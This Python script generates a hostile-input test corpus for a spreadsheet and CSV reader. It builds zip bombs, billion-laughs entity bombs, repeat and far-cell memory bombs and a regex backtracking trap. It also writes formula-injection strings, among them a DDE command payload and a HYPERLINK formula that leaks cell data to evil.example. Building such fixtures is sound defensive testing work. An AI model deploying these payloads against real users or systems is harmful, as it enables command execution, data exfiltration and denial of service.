"""Writes the hostile-input corpus: files a vendor, a broken export or an attacker could send.

    python tests/data/hostile/make_corpus.py

The small files are committed next to this script (tests check they match its
output). The big ones - a zip bomb, a 5 MB cell, 100,000 columns, a 64 KB line
that made `csv.Sniffer` take 20 s - are written at test time by the `write_*`
functions below, into a temporary folder.
"""

from __future__ import annotations

import datetime as dt
import importlib.util
import io
import struct
import zipfile
from pathlib import Path
from types import ModuleType

import xlsxwriter

HERE = Path(__file__).resolve().parent
CREATED = dt.datetime(2024, 1, 1)


def _reading_fixtures() -> ModuleType:
    """The binary writers (.xls, .xlsb, .ods) of tests/data/reading/make_fixtures.py."""
    script = HERE.parent / "reading" / "make_fixtures.py"
    spec = importlib.util.spec_from_file_location("reading_fixtures", script)
    assert spec is not None
    assert spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


fixtures = _reading_fixtures()

INJECTIONS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "@SUM(1)",
    "+1+1",
    "-2+3",
    "\t=1+1",
)


def _xlsx(build: str) -> bytes:
    buffer = io.BytesIO()
    workbook = xlsxwriter.Workbook(buffer, {"in_memory": True})
    workbook.set_properties({"created": CREATED})
    if build == "hidden":  # a hidden and a very hidden sheet of other rows before the leads
        for name, hide in (("Secret", "hide"), ("Archive", "very_hidden")):
            other = workbook.add_worksheet(name)
            other.write_row(0, 0, ["First", "Last"])
            other.write_row(1, 0, [name, "Row"])
            getattr(other, hide)()
    sheet = workbook.add_worksheet("Leads")
    sheet.activate()
    sheet.write_row(0, 0, ["First", "Last"])
    if build == "leads":
        sheet.write_row(1, 0, ["Ann", "Lee"])
        sheet.write_row(2, 0, ["Bob", "Ray"])
    elif build == "formulas":
        sheet.write_formula(1, 0, '="Ann"', None, "Ann")  # a formula: its cached value
        sheet.write_formula(1, 1, '=UPPER("lee")', None, "LEE")
        sheet.write_row(2, 0, ["Bob", "Ray"])
    elif build == "injections":
        for row, text in enumerate(INJECTIONS, start=1):
            sheet.write_string(row, 0, text)
            sheet.write_string(row, 1, f"Lee{row}")
    elif build == "merged":
        sheet.merge_range(1, 0, 1, 1, "Ann Lee")
        sheet.write_row(2, 0, ["Bob", "Ray"])
    elif build == "hidden":
        sheet.write_row(1, 0, ["Ann", "Lee"])
    elif build == "far_cell":
        sheet.write_row(1, 0, ["Ann", "Lee"])
        sheet.write_string(1_048_575, 16_383, "x")  # XFD1048576: 17 billion cells to allocate
    workbook.close()
    return buffer.getvalue()


def _rewrite(workbook: bytes, member: str, change: object) -> bytes:
    """The workbook with one member's XML changed by `change(text) -> text`."""
    assert callable(change)
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(workbook)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for info in source.infolist():
            data = source.read(info)
            if info.filename == member:
                data = change(data.decode("utf-8")).encode("utf-8")
            target.writestr(info, data)
    return out.getvalue()


_LAUGHS = (
    '<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(
        f'<!ENTITY lol{n} "{("&lol" + (str(n - 1) if n > 1 else "") + ";") * 10}">'
        for n in range(1, 10)
    )
    + "]>"
)


def _with_laughs(xml: str, *, padding: int = 0) -> str:
    """A billion-laughs DOCTYPE after the XML declaration, behind `padding` bytes of comment."""
    end = xml.index("?>") + 2
    comment = f"<!--{'x' * padding}-->" if padding else ""
    return xml[:end] + comment + _LAUGHS + xml[end:]


def _no_cell_refs(xml: str) -> str:
    """Cells without `r` (legal: each takes the next column), 20,000 of them in one row."""
    cells = '<c t="inlineStr"><is><t>x</t></is></c>' * 20_000
    return xml.replace("</sheetData>", f'<row r="1048576">{cells}</row></sheetData>')


def _xls_far_cell() -> bytes:
    far = fixtures.biff_cell(65_535, 65_535, "far")  # a column Excel never writes
    stream = fixtures.xls_stream([("Leads", [["First", "Last"], ["Ann", "Lee"]], False)], extra=far)
    return fixtures.compound_file("Workbook", stream.ljust(4096, b"\0"))


def _xls_lying_dimensions() -> bytes:
    rows = [["First", "Last"], ["Ann", "Lee"]]
    stream = fixtures.xls_stream([("Leads", rows, False)], dimensions=(0, 1 << 20, 0, 16_384))
    return fixtures.compound_file("Workbook", stream)


def corpus() -> dict[str, bytes]:
    """Every committed file of the corpus, by name."""
    leads = _xlsx("leads")
    return {
        "empty.csv": b"",
        "header_only.csv": b"First,Last\r\n",
        "random_bytes.csv": fixtures.random_bytes(4096, seed=11),
        "random_bytes.xlsx": fixtures.random_bytes(4096, seed=12),
        "truncated.xlsx": leads[: len(leads) * 2 // 3],
        "encrypted.xlsx": fixtures.compound_file(
            "EncryptedPackage", fixtures.random_bytes(5000, seed=13)
        ),
        "entity_bomb_workbook.xlsx": _rewrite(leads, "xl/workbook.xml", _with_laughs),
        # Behind a 5 KB comment, past what a reader sniffing the first 4 KB would see.
        "entity_bomb_sheet.xlsx": _rewrite(
            leads, "xl/worksheets/sheet1.xml", lambda xml: _with_laughs(xml, padding=5000)
        ),
        "utf16.csv": "First,Last\r\nJosé,Zoë\r\n".encode("utf-16"),
        "utf8_bom.csv": "First,Last\r\nJosé,Zoë\r\n".encode("utf-8-sig"),
        "nul_bytes.csv": b"First,Last\r\nAn\x00n,Lee\r\n\x00,\x00\r\nBob,Ray\r\n",
        "ragged.csv": b"First,Last\r\nAnn\r\nBob,Ray,extra,values\r\nCy,Lu,,\r\n",
        "workbook_named.csv": leads,
        "formulas.xlsx": _xlsx("formulas"),
        "formula_injection.csv": (
            "First,Last\r\n"
            + "".join(
                f'"{text.replace(chr(34), chr(34) * 2)}",Lee{row}\r\n'
                for row, text in enumerate(INJECTIONS, start=1)
            )
        ).encode("utf-8"),
        "formula_injection.xlsx": _xlsx("injections"),
        "merged.xlsx": _xlsx("merged"),
        "hidden_sheets.xlsx": _xlsx("hidden"),
        "far_cell.xlsx": _xlsx("far_cell"),
        "far_cell_no_refs.xlsx": _rewrite(leads, "xl/worksheets/sheet1.xml", _no_cell_refs),
        "far_cell.xls": _xls_far_cell(),
        "lying_dimensions.xls": _xls_lying_dimensions(),
        "far_column.xlsb": fixtures.xlsb_bytes(
            [["First", "Last"], ["Ann", "Lee"]], far=(1000, 0xFFFFFF)
        ),
        # A shared-string index with no shared strings: the reader panics (a Rust panic).
        "bad_string_index.xlsb": fixtures.xlsb_bytes(
            [["First", "Last"], ["Ann", "Lee"]],
            extra=fixtures.biff12_record(0x00, struct.pack("<I", 2) + bytes(21))
            + fixtures.biff12_record(0x07, struct.pack("<III", 0, 0, 99)),  # BrtCellIsst
        ),
        # 9,000 rows x 11,000 columns of one value: 1.7 KB that the reader would expand to 6 GB.
        "repeat_bomb.ods": fixtures.ods_bytes(
            fixtures.ods_row("First", "Last")
            + fixtures.ods_row("Ann", "Lee")
            + '<table:table-row table:number-rows-repeated="9000"><table:table-cell '
            'table:number-columns-repeated="11000" office:value-type="string">'
            "<text:p>x</text:p></table:table-cell></table:table-row>"
        ),
    }


# ---------------------------------------------------------------- written at test time


def write_ratio_zip_bomb(path: Path) -> None:
    """A real workbook plus 80 MB of zeros that deflate to about 80 KB (ratio ~1000)."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        with zipfile.ZipFile(io.BytesIO(_xlsx("leads"))) as source:
            for info in source.infolist():
                archive.writestr(info, source.read(info))
        with archive.open("xl/media/image1.bin", "w") as member:
            block = bytes(1 << 20)
            for _ in range(80):
                member.write(block)


def write_claimed_zip_bomb(path: Path) -> None:
    """A small workbook whose central directory claims two members of 4 GB each."""
    data = bytearray(_xlsx("leads"))
    claimed = 0
    position = data.find(b"PK\x01\x02")
    while position != -1 and claimed < 2:
        struct.pack_into("<I", data, position + 24, 0xFFFFFFF0)  # uncompressed size
        claimed += 1
        position = data.find(b"PK\x01\x02", position + 4)
    path.write_bytes(bytes(data))


def write_big_cell(path: Path, size: int = 5 * 1024 * 1024) -> None:
    path.write_bytes(b'First,Last\r\nAnn,"' + b"x" * size + b'"\r\nBob,Ray\r\n')


def write_many_columns(path: Path, columns: int = 100_000) -> None:
    header = ",".join(f"C{n}" for n in range(columns))
    path.write_text(f"First,Last,{header}\r\nAnn,Lee\r\n", encoding="utf-8")


def write_sniffer_trap(path: Path) -> None:
    """64 KB of `,"`: csv.Sniffer's quote regex backtracks on it for ~20 s."""
    path.write_bytes(b"First,Last\r\n" + b',"' * 32_000 + b"\r\n")


def main(folder: Path = HERE) -> None:
    for name, content in corpus().items():
        (folder / name).write_bytes(content)


if __name__ == "__main__":
    main()
